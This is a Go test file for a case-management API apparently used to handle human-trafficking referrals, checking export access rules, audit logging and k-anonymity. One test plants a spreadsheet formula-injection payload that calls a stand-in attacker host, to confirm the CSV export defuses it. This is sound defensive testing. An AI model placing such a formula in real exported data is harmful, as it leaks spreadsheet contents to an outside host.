package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/nrmproject/nrm"
	"github.com/nrmproject/nrm/internal/testapp"
	"github.com/nrmproject/nrm/sqlstore"
	"github.com/nrmproject/nrm/sqlstore/storetest"
)

type htcdsExport struct {
	Standard string           `json:"standard"`
	Items    []map[string]any `json:"items"`
}

// TestHTCDSExport: each case exported only to those who may read it, each
// field only with its compartment, and every case exported audited (which
// case and which compartments, never their content).
func TestHTCDSExport(t *testing.T) {
	storetest.ForEachEngine(t, func(t *testing.T, e sqlstore.Engine) {
		a := testapp.New(t, e)
		police := a.MustOrg(t, nrm.KindPolice)
		ngo := a.MustOrg(t, nrm.KindNGO)
		other := a.MustOrg(t, nrm.KindShelter)
		officer := a.MustToken(t, a.MustUser(t, police, nrm.RoleFirstResponder))
		worker := a.MustToken(t, a.MustUser(t, ngo, nrm.RoleCaseWorker))
		stranger := a.MustToken(t, a.MustUser(t, other, nrm.RoleCaseWorker))
		analyst := a.MustToken(t, a.MustUser(t, a.MustOrg(t, nrm.KindCoordinator), nrm.RoleAnalyst))
		auditor := a.MustToken(t, a.MustUser(t, a.MustOrg(t, nrm.KindCoordinator), nrm.RoleAuditor))

		// Police's case, shared with the NGO for support only.
		shared := a.MustCase(t, officer, testapp.CaseBody("Ana", "Popescu", "1999-04-02"))
		a.MustShare(t, shared, officer, ngo, "referral", []string{"support"}, worker)
		// The NGO's own case.
		own := a.MustCase(t, worker, testapp.CaseBody("Olena", "Shevchenko", "1990-01-02"))
		// Another organisation's case, never shared.
		a.MustCase(t, stranger, testapp.CaseBody("Grace", "Okafor", "1985-06-07"))
		for _, id := range []string{shared, own} {
			if r := a.Do(t, "POST", "/api/v1/cases/"+id+"/plans", worker, map[string]any{"type": "Health",
				"objectives": "see a doctor", "action_plan": "book"}); r.Status != 201 {
				t.Fatalf("plan: %d %s", r.Status, r.Body)
			}
		}
		export := func(t *testing.T, token string) map[string]map[string]any {
			t.Helper()
			r := a.Do(t, "GET", "/api/v1/exports/htcds?format=json", token, nil)
			if r.Status != 200 {
				t.Fatalf("export: %d %s", r.Status, r.Body)
			}
			var x htcdsExport
			if err := json.Unmarshal(r.Body, &x); err != nil || x.Standard != "HTCDS 2.0" {
				t.Fatalf("%v %s", err, r.Body)
			}
			out := map[string]map[string]any{}
			for _, it := range x.Items {
				out[it["nrm_CaseReference"].(string)] = it
			}
			return out
		}
		ref := func(id string) string {
			return a.Do(t, "GET", "/api/v1/cases/"+id, officerOrWorker(id, shared, officer, worker), nil).JSON(t)["reference"].(string)
		}
		sharedRef, ownRef := ref(shared), ref(own)

		t.Run("the_partner_gets_the_record_and_support_not_identity", func(t *testing.T) {
			got := export(t, worker)
			if len(got) != 2 {
				t.Fatalf("%d cases exported, want the NGO's own and the shared one: %v", len(got), got)
			}
			s := got[sharedRef]
			for _, f := range []string{"prs_FirstName", "prs_SecondName", "prs_Birthdate", "prs_Gender", "prs_Citizenship", "hte_City"} {
				if _, ok := s[f]; ok {
					t.Errorf("%s exported to a partner without identity: %v", f, s)
				}
			}
			if s["vic_TraffickingStatus"] != "PossibleVictimOfTrafficking" || s["hte_Country"] != "GB" ||
				!slices.Equal(anyStrings(s["spl_Type"]), []string{"Health"}) || !slices.Equal(anyStrings(s["vic_TypeOfExploitation"]), []string{"ForcedLabour"}) {
				t.Errorf("shared case %v", s)
			}
			o := got[ownRef]
			if o["prs_FirstName"] != "Olena" || o["prs_Birthdate"] != "1990-01-02" || o["prs_Gender"] != "Feminine" ||
				!slices.Equal(anyStrings(o["prs_Citizenship"]), []string{"MD"}) || o["hte_City"] != "Bristol" {
				t.Errorf("own case %v", o)
			}
		})
		t.Run("police_get_identity_never_support", func(t *testing.T) {
			got := export(t, officer)
			if len(got) != 1 {
				t.Fatalf("%d cases, want police's one: %v", len(got), got)
			}
			s := got[sharedRef]
			if s["prs_FirstName"] != "Ana" {
				t.Errorf("owner without identity: %v", s)
			}
			if _, ok := s["spl_Type"]; ok {
				t.Errorf("support exported to police (CETS 197 Art. 12(6)): %v", s)
			}
		})
		t.Run("csv_has_every_mapped_field_and_one_row_per_case", func(t *testing.T) {
			r := a.Do(t, "GET", "/api/v1/exports/htcds?format=csv", worker, nil)
			if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") || r.Header.Get("Cache-Control") != "no-store" {
				t.Fatalf("%d %v %s", r.Status, r.Header, r.Body)
			}
			rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
			if err != nil || len(rows) != 3 || !slices.Equal(rows[0], nrm.HTCDSHeader()) {
				t.Fatalf("%v %q", err, rows)
			}
			if strings.Contains(string(r.Body), "Ana") || strings.Contains(string(r.Body), "Grace") {
				t.Errorf("a name the NGO may not read is in its CSV: %s", r.Body)
			}
		})
		t.Run("refused", func(t *testing.T) {
			if r := a.Do(t, "GET", "/api/v1/exports/htcds", analyst, nil); r.Status != 403 {
				t.Errorf("analyst: %d %s", r.Status, r.Body)
			}
			if r := a.Do(t, "GET", "/api/v1/exports/htcds?format=xml", worker, nil); r.Status != 422 || !strings.Contains(string(r.Body), `"field":"format"`) {
				t.Errorf("format xml: %d %s", r.Status, r.Body)
			}
			if r := a.Do(t, "GET", "/api/v1/exports/htcds", "", nil); r.Status != 401 {
				t.Errorf("no token: %d", r.Status)
			}
		})
		t.Run("every_case_exported_is_audited_without_its_content", func(t *testing.T) {
			entries := a.Do(t, "GET", "/api/v1/audit/entries", auditor, nil)
			if entries.Status != 200 {
				t.Fatalf("%d %s", entries.Status, entries.Body)
			}
			var l struct {
				Items []map[string]any `json:"items"`
			}
			json.Unmarshal(entries.Body, &l)
			exported := map[string]int{}
			exports := 0
			for _, it := range l.Items {
				if d, _ := it["detail"].(string); strings.Contains(d, "via htcds-export") {
					exported[it["object"].(string)]++
				}
				if it["action"] == "export.htcds" {
					exports++
				}
			}
			// worker: 2 cases, json then csv (4 entries); officer: 1.
			if exported["case/"+own] != 2 || exported["case/"+shared] != 3 || len(exported) != 2 || exports < 3 {
				t.Errorf("export reads audited %v, exports %d", exported, exports)
			}
			for _, leak := range []string{"Ana", "Olena", "Popescu", "Health", "Bristol"} {
				if strings.Contains(string(entries.Body), leak) {
					t.Errorf("the audit log holds %q", leak)
				}
			}
		})
		t.Run("a_name_a_spreadsheet_would_run_is_defused_in_the_csv_only", func(t *testing.T) {
			formula := `=HYPERLINK("http://attacker.example/?"&A1,"open")`
			id := a.MustCase(t, worker, testapp.CaseBody(formula, "+Shevchenko", "1991-01-02"))
			r := a.Do(t, "GET", "/api/v1/exports/htcds?format=csv", worker, nil)
			rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := map[string]int{}
			for i, h := range rows[0] {
				col[h] = i
			}
			found := false
			for _, row := range rows[1:] {
				if strings.Contains(row[col["prs_FirstName"]], "HYPERLINK") {
					found = true
					if row[col["prs_FirstName"]] != "'"+formula || row[col["prs_SecondName"]] != "'+Shevchenko" {
						t.Errorf("not defused: %q %q", row[col["prs_FirstName"]], row[col["prs_SecondName"]])
					}
				}
			}
			if !found {
				t.Fatalf("the case is not in the CSV: %q", rows)
			}
			if got := export(t, worker)[ref(id)]; got["prs_FirstName"] != formula {
				t.Errorf("the JSON changed the name: %v", got["prs_FirstName"])
			}
		})
	})
}

func officerOrWorker(id, shared, officer, worker string) string {
	if id == shared {
		return officer
	}
	return worker
}

func anyStrings(v any) []string {
	l, _ := v.([]any)
	var out []string
	for _, x := range l {
		s, _ := x.(string)
		out = append(out, s)
	}
	return out
}

// TestMicrodataAPI: CSV in the global layout, roles as for statistics, k
// never under 5.
func TestMicrodataAPI(t *testing.T) {
	storetest.ForEachEngine(t, func(t *testing.T, e sqlstore.Engine) {
		a := testapp.New(t, e)
		officer := a.MustToken(t, a.MustUser(t, a.MustOrg(t, nrm.KindPolice), nrm.RoleFirstResponder))
		analyst := a.MustToken(t, a.MustUser(t, a.MustOrg(t, nrm.KindCoordinator), nrm.RoleAnalyst))
		for i := 0; i < 12; i++ {
			a.MustCase(t, officer, testapp.CaseBody("Ana", "Popescu", "1999-04-02"))
		}
		r := a.Do(t, "GET", "/api/v1/statistics/microdata?k=5", analyst, nil)
		if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("%d %s", r.Status, r.Body)
		}
		rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
		if err != nil || !slices.Equal(rows[0], nrm.LayoutGlobal.Columns) || len(rows) != 13 {
			t.Fatalf("%v: %d rows, header %v", err, len(rows), rows[0])
		}
		if !strings.Contains(r.Header.Get("NRM-Microdata"), "12 rows (k 5, 0 of 12 suppressed") {
			t.Errorf("summary %q", r.Header.Get("NRM-Microdata"))
		}
		for _, leak := range []string{"Ana", "Popescu", "Bristol", "1999"} {
			if strings.Contains(string(r.Body), leak) {
				t.Errorf("microdata holds %q", leak)
			}
		}
		if r := a.Do(t, "GET", "/api/v1/statistics/microdata?k=4", analyst, nil); r.Status != 422 || !strings.Contains(string(r.Body), `"field":"k"`) {
			t.Errorf("k 4: %d %s", r.Status, r.Body)
		}
		if r := a.Do(t, "GET", "/api/v1/statistics/microdata?layout=ctdc-vp", analyst, nil); r.Status != 422 || !strings.Contains(string(r.Body), `"field":"layout"`) {
			t.Errorf("layout ctdc-vp: %d %s", r.Status, r.Body)
		}
		if r := a.Do(t, "GET", "/api/v1/statistics/microdata", officer, nil); r.Status != 403 {
			t.Errorf("first responder: %d %s", r.Status, r.Body)
		}
	})
}
